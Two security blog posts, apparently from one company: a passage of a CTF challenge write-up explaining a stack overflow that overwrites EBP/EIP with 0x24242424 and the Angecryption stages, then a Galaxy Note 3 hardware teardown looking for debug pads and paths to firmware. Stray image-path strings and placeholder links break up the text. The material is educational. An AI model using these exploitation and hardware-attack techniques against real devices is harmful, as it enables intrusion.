To understand what’s being compared against 0x24242424 at0x0804A8F8, you have to backtrack from the value stored at [EAX] at 0x0804A8F6, which is the value stored at [EBP+4]. Right after the overflow, leave/retn pops 0x24242424 into both EBP and EIP, gaining execution flow. In goto_blackhat's prologue, EBP is pushed to the stack, fixed with avalid EBP (ESP was not under user control via this path) and then the code jmp's to blackhat.

In blackhat, then, the address from the time of the overflow that's now on the stack is dereferenced and compared against 0x24242424. As such, if you didn't stuff this value on the stack yourself, or modify EBP prior to hitting goto_blackhat, Do Not Pass Go and the application quits.

Regardless, from talking to folks who completed the challenge, many (most?) people didn’t know what was actually being compared here, and just made an educated (or uneducated) guess to bypass this check or nop’d the check or patched the jump or swapped the eflag, which is basically what was intended at the outset anyway. (Note to self: if you’re trying to be sneaky, don’t implement your sneakiness in a fashion that gives people the info they need to just guess and bypass the whole damn check without understanding what it’s doing.)

Moving on, if your EBP was correct at the time goto_blackhat was called, it outputs those strings that were loaded at the beginning of the function:

… and then falls into these two loops down here:

For now, you can ignore what this does, other than that it calls _write with some data. (And if you’re really perceptive, you’ll notice it wrote to FD 2, which is STDERR.)
.text:0804A9A4                 mov     [esp+4], eax       ; buf
.text:0804A9A8                 mov     dword ptr [esp], 2 ; fd
.text:0804A9AF                 call    _write[Note: we considered several ways to hide the goto_blackhat mmap/memcpy, stripping everything, inlining everything, forcing you to ROP or change memory permissions yourself, dynamically generating the two echoed values, seeding the decryption routine with EBP, etc. Marketing put the kibosh on that, as there was concern no one would spend the time to solve it before BH actually arrived. Plus, only malware reversers (and warez scenesters) would figure it out, and there are too many of you at BH already. ☺ We hope you enjoyed this easier version.] [Just kidding, we love you all.]

[Another Note: This big loop does some relatively simple decryption of the embedded buffer from a relatively nasty key computed with two modified SHA1 hashes with a non-standard TEA and other ridiculousness. We had one solver who RE’d these functions and manually decrypted the buffer. Basically, the key generation part was fixed in code with no seeds from process state, so grabbing that key and then manually decrypting was not hard once you saw what it wasdoing.]

Ok, so we need our EBP to be 0x24242424, and we saw in main, earlier, that the bounce function goto_blackhat was copied to 0x24242424, so our input string is really easy. Dolla dolla billz, yo:

When you press enter, it dumps a bunch of binary data to STDERR, stage 2.

[stage 2]

Great, another PDF.

This brilliant haiku is a hat tip to our wonderful neighbors over at PoC||GTFO, specifically their 3rd edition that was released a couple of months ago. When you track it down, you’ll find a fantastic article on Angecryption, which is a way to create a binary that, when encrypted with a specific key and IV, generates a new file.

[Several people got stuck here. They briefly skimmed the angecryption article and just tried to decrypt the PDF (or the garbage at the end of the PDF) with the key/IV values given at the end of [stage 1]. Angecryption is madness because you don’t decrypt to get the plaintext, but encrypt it. I heartily recommend you go read that (and all other) PoC||GTFO articles over at any of the mirrors, such as]

Googling for Angecryption, you’ll findthe googlecode site hosting it (which contains an example encryption python script), or you could have just read the paper and done the encryptionby hand:

This dumps yet another PDF:

…and this time it’s simply a wrapper for a zip file containing an mp3. (As currently written, Angecryption only supports a few filetypes, and we didn’t mess with implementing a zip or mp3 file; we simply reused the same PDF+ZIP file trick we used at the beginning.)

This mp3 instructed you to email us at a supersecret address, but I won’t tell you, just in case anyone else still wants to play along.


Monday, April 28

Making a 1st Impression with Hardware

Fluffy Introduction Text

I get the “What exactly do you do for a living?” question fairly often, and tend to generically toss out a canned response of “hacker” or “information security professional” or “computers” depending on the person asking and whether or not I’m being questioned by a customs official with a gun and a surly look. I thought it might be fun to blog up a example or two of what we actually do for a paycheck, as it might help explain our niche inside a niche industry and maybe illuminate where our customer’s money goes and what value we provide.

For this exploration, let us focus on 2 random devices sitting on my desk this weekend: The Samsung Galaxy Note 3 (specifically the SM-9005 variant) and the oftenmisunderstood and slightly obscure Samsung Anyway S102.

For the Note 3, I’ll detail what a teardown looks like to me and why it matters to the customer. The device is fairly well documented on the internet, so a full and complete hardware reverse engineering analysis probably isn't worth the time. As such, I’ll just focus on the high level overview. Consider this my first couple of hours on a project, simply what I look for and what my plan of attack would be. This teardown will disregard software and the USB stack entirely, and just be a glance at the hardware.

After the SM-9005, I’ll walk through a deeper analysis of the S102. I expect this to be quite interesting and fun, though it will be a separate post that will go up within the next couple of weeks.

So, without further ado….

The Samsung Galaxy Note 3 (SM-9005) Teardown

With any common mobile platform that crosses my desk for analysis, I start with a quick perusal of iFixIt for a teardown. For the Note III, we find this: <iFixIt Link>

The device is fairly straight forward to crack open, but the public teardown doesn’t tell us much about the internals. We can fix this with a bit more time on google and quickly run into the beloved tear down (we will come back to this later): <ChipWorks Link>

While the overall information is nice, what we really care about here is:
  • What components are being used (ChipWorks gave us a listing already)
  • How was the device built
  • Did the designers leave any debugging mechanisms exposed or active during production
  • Are there any weak or squishy portions of the design that look easily exploitable
So with the background we have at hand, it’s time to take a screwdriver to the phone and see what’s inside for ourselves.

Taking a closer look at the main PCB, we see all the same components and latch plugs that the other tear-downsexposed. We also get a first pass understanding of the device complexity and it’s general craftsmanship, and in this case the Samsung engineers design stays true to form with a clean and well structured PCB. All the components are well placed and the overall view is aesthetically uncluttered. We can quickly see the camera in the center, as well as the SIM card slot and the battery connector. The large chip below and to the right of the camera is the main slab of NAND Flash on the device. The other components we will revisit after we finish our “lay of the land” exploration.

Further analysis of the phone shows the case connections are just as cleanly laid out. Typically there is little of interest on the case and screen sides of a phone, but on the Note 3 we can see a handful of interaction points that drive the screen and touch sensors underneath the PCB. The small silicon on the right (below the headphone jack) is the Synaptics S5050A touch screen controller. If the interest of this project was to manipulate user interaction points, this would be our starting place. Aside from the controller and the pads on the left, there is little on the screen side but dense connection cables, and these tend to be easier to explore on the main PCB.

Our last view of the entire PCB will be from the bottom. This is where our main SoC (system on a chip) is hiding, along with a collection of other interesting components.

Starting with the top left corner, we can see where the PCB contacts the pressure connection pads on the case that I mentioned before. I this were a real project I would eventually explore them with a multimeter to be sure, but my initial assumption is that these simply share power and ground with the screen.

Moving to the top, we can see the 4 pins that connect tothe battery when the phone is assembled, and to the right of that is our main slab of RAM followed by 2 sets of RF Shielded components.

If you didn’t notice, I did a bit of “it’s magic” handwaving when locating the SoC (it’s hiding underneath the slab of RAM). We know this because wegoogled the device and ChipWorks already discovered this for us and they tell us it is the new Snapdragon 800 (MSM8974). Had this not ben the case, I would have to start desoldering components looking for Qualcomm silicon. While cleaning a PCB of all components gives me great joy, this phone was a present and I’d like to at least boot it once before we kill it, so we will take the ChipWorks finding as gospel for the time being.

So far, our analysis is far from special or unique. iFixIt delves to this level trying to help people fix or replace broken components on a phone and ChipWorks delves a bit deeper looking for new hardware and trends in the engineering space. Atthis level, we also diverge, but our path is to catalogue hardware interaction points and to explore the PCB for potential debug interfaces.

Jumping down the stack a bit

Now, before we delve much deeper, it’s probably a good idea to spin up a quick vernacular, especially if you are not experienced in hardware. First, modern PCBs are typically dense and multi-layered. As such, a simple visual inspection is not always going to grant you 100% understanding as we can’t see internal sandwiched layers from the top or bottom. Phones and high end consumer electronics are especially dense, while more esoteric hardware still tends to be dual layer (top and bottom only).

When wanting to connect a trace between layers, a via is used. These are simply the “dots” you see from visual inspection and they generally mean that a trace has jumped to another layer (though they can be use for other things as well, like pulling a reference voltage or ground signal from a different layer).

Lastly, when PCBs are being mass produced they need to be tested prior to deployment. While a multitude of options are available, the majority of devices we look at in the real world still support the concept of a “bed of nails”. <insert google image search results here>. This concept basically means that interesting or problematic areas of the board have testing points exposed on the outer layers of the PCB sothat an external testing machine can quickly validate them on the production line. Furthermore, my favorite hardware designers tend to expose debug functionality with these interaction points to allow for firmware and OS flashing post production.

Now that we are loaded with a simplified lexicon, we can delve a bit deeper into some closeup photos of the SM-9005 board.

The first thing I notice upon glancing at the PCB is the bed of nails pads lying about the board (these are the copper / gold circles in the below picture). If this wasn’t a Samsung device and I had not spent countless days tracing prior hardware revisions of these pads, I would be really excited. I’d immediately start tracing the pads with a multimeter and tapping them with a logic analyzer to explore what they are exposing. Given the target though, we will wait on that taskuntil the S102A analysis(where I expect much more interesting results).

The other thing to take note of in this picture is the wonderfully large spacing of leads off the ribbon cable seat. These pinouts, while still fairly tight and small, are spaced far enough apart that latching with a logic analyzer to watch all the data pass over the cable is an approachable task and much easier than tapping the cables directly. If we cared about PCB to Screen interactions, this would be our starting point.

While we will disregard the bed of nails pads because I’ve explored Samsung phones in the past and know better, I do see something on the board that makes me second guess that  decision. Below, you will see a collection of unpopulated pads that are designed to seat standard capacitors and resistors. Seeing these gets me quite excited, especially because some of the traces end in nail pads as well.

You will rarely see PCBlayouts with truly unused components, everything about physical hardware is about tradeoffs between space, cost, usability and mass production. Engineers don't simply design and produce extra unused pads as a rule, so if they are on production equipment they probably have a function.

In reality, these are probably laid out to support the different hardware variants that Samsung utilizes around the world. In this manner, the designers can lay out a single PCB and mass produce it instead of full redesigns for each variant of the hardware that is to ship. The factory would then populate the board with different component sets depending on whether or not the phone was to be an AT&T LTE device or something else.

Aside from the logical, these pads could expose something immensely more interesting: hardwaredebugging and firmware manipulation. At some point in production, the device must be loaded with software and most common SoC vendors protect thatfunctionality with a series of hardware flags controlled by resident voltages. In this case, I would start tracing the pads with a multimeter to see where the missing discrete components would effect, and what circuit they could complete if bridged.

We have seen hardware of a lower mass production scale where through hole resistors were utilized to open the SoC for firmware debugging and then simply clipped by hand before the final device closure and shipment to customers. If my target was to acquire Qualcomm firmware or debug the resident NAND, these pads would be my starting point. Further enticing me along this path is the mysterious pads exposed directly next to the SoC / RAM stack (as seen below).


Final Thoughts

While we’ve meandered around a bitwithout real focus, I do hope I’ve explained a bit about what I look for in a teardown and what excites me to see. If this were a real engagement to find security related issues on the Note 3, I would be tracing all the pins and attempting to recreate the full PCB schematic. I would then acquire spec sheets for every piece of silicon I could and start looking for debug or flashing capabilities. The main focus of this part of a hardware analysis is to plan an attack to grab the resident firmware and the Note 3 exposes a couple of paths that while probably dead ends are none the less worth running down.

